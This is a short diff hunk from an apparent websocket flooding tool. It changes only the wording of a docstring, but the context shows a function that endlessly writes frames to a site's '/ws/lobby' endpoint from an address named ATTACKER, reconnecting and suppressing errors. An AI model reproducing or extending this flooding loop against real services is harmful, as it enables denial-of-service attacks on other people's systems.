@@ -36,7 +36,7 @@ PER_WRITE = 600
 
 
 async def flood_frames(address: str, begin: bytes, frame: bytes) -> None:
-    """Write frames to one socket for ever; connect again when the site has closed it."""
+    """Write frames to one socket endlessly; connect again when the site has closed it."""
     while True:
         with contextlib.suppress(OSError, WebSocketException, TimeoutError):
             async with connect(f"{address}/ws/lobby", ping_interval=None, local_addr=ATTACKER) as socket:
